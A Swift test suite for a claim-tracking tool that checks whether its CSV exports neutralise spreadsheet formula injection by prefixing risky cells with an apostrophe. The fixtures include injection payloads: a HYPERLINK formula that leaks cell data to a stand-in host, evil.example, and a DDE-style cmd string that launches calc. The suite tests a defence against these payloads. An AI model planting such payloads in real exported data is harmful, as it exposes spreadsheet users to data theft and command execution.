import Foundation
import Testing

@testable import ClaimTrail

/// CSV formula injection: a spreadsheet runs a cell beginning with `=`, `+`, `-`, `@`, tab or CR.
/// Every CSV claimtrail writes neutralises such cells with a leading `'` unless `--raw-cells`.
@Suite("CSV cells a spreadsheet would run")
struct CSVFormulaTests {
    static let formulas = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
        "\t=1+1", "\r=1+1", "-3", "-3.5e2", "+-1", "-.5", "=1,\"2\"\r\n3",
    ]

    /// A store whose every stored text field begins like a formula.
    static func store() throws -> TemporaryStore {
        let temporary = try TemporaryStore()
        let store = temporary.store
        for (index, formula) in formulas.enumerated() {
            let source = try store.addSource(
                SourceDraft(title: formula + " \(index)", outlet: formula, author: formula, published: "2018-08-28")
            )
            let speaker = try store.addSpeaker(SpeakerDraft(name: formula + " \(index)", kind: .person, role: formula))
            let claim = try store.addClaim(text: formula + " claim \(index)", topic: formula).id
            let counter = try store.claim("counter \(index)")
            try store.attribute(claim, speaker, in: source, .asserts, quote: formula)
            try store.attribute(counter, speaker, in: source, .denies, quote: formula + " again")
            _ = try store.addRelation(from: counter, to: claim, kind: .contradicts, sourceID: source)
        }
        return temporary
    }

    /// Written here apart from the exporter: a first byte of `= + - @`, tab or CR, in a cell that
    /// is not a plain number such as `-3` or `-3.87`.
    static func startsFormula(_ cell: String) -> Bool {
        let isNumber = cell.wholeMatch(of: /[-+]?[0-9]+(\.[0-9]+)?/) != nil
        return !isNumber && (cell.utf8.first.map { "=+-@\t\r".utf8.contains($0) } ?? false)
    }

    @Test(
        "every command's CSV neutralises them by default, and --raw-cells keeps them byte for byte",
        arguments: [
            ["export"], ["export", "--claim", "1"], ["export", "--contested"],
            ["trace", "claim", "1", "--format", "csv"], ["trace", "speaker", "1", "--format", "csv"],
            ["audit", "1", "--format", "csv"], ["audit", "--all", "--format", "csv"],
            ["contested", "--format", "csv"], ["search", "claim", "--format", "csv"],
            ["claim", "similar", "1", "--format", "csv"],
        ]
    )
    func everyCommand(_ arguments: [String]) throws {
        let temporary = try Self.store()
        let raw = try Binary.run(arguments + ["--raw-cells"], database: temporary.path)
        let neutralised = try Binary.run(arguments, database: temporary.path)
        #expect(raw.status == 0 && neutralised.status == 0, "\(raw.stderr)\(neutralised.stderr)")
        let rawRecords = CSVParser.parse(raw.stdout)
        let records = CSVParser.parse(neutralised.stdout)
        #expect(records.count == rawRecords.count && records.count > 1)
        var guarded = 0
        for (record, rawRecord) in zip(records, rawRecords) {
            #expect(record.count == rawRecord.count)
            for (cell, rawCell) in zip(record, rawRecord) {
                #expect(!Self.startsFormula(cell), "\(arguments): \(cell)")
                #expect(cell == (Self.startsFormula(rawCell) ? "'" + rawCell : rawCell))
                if Self.startsFormula(rawCell) { guarded += 1 }
            }
        }
        #expect(guarded > 0, "\(arguments): nothing to neutralise")
        if arguments == ["export"] {
            // A plain number stays a number; anything more after a sign is guarded.
            let quotes = records.dropFirst().compactMap { $0.count > 11 ? $0[11] : nil }
            #expect(quotes.contains("-3") && quotes.contains("'-3.5e2") && quotes.contains("'-.5"))
            let stored = try temporary.store.provenance.rows(.all)
            #expect(rawRecords.dropFirst().map { $0 } == stored.map(\.cells), "--raw-cells is the stored text")
        }
    }

    @Test(
        "Python's csv module reads the neutralised cells as text with a leading '",
        .enabled(if: OutsideClient.enabled("python3"))
    )
    func python() throws {
        let temporary = try Self.store()
        let path = temporary.directory.appendingPathComponent("report.csv").path
        let result = try Binary.run(["export", "--out", path], database: temporary.path)
        #expect(result.status == 0, "\(result.stderr)")
        let rows = try #require(
            try OutsideClient.python(
                """
                import csv, json, sys
                with open(sys.argv[1], newline='', encoding='utf-8') as f:
                    print(json.dumps(list(csv.reader(f))))
                """,
                [path]
            ) as? [[String]]
        )
        let stored = try temporary.store.provenance.rows(.all)
        #expect(rows.count == stored.count + 1)
        for (row, want) in zip(rows.dropFirst(), stored) {
            #expect(row == want.cells.map { Self.startsFormula($0) ? "'" + $0 : $0 })
        }
        #expect(rows.joined().allSatisfy { !Self.startsFormula($0) })
    }
}
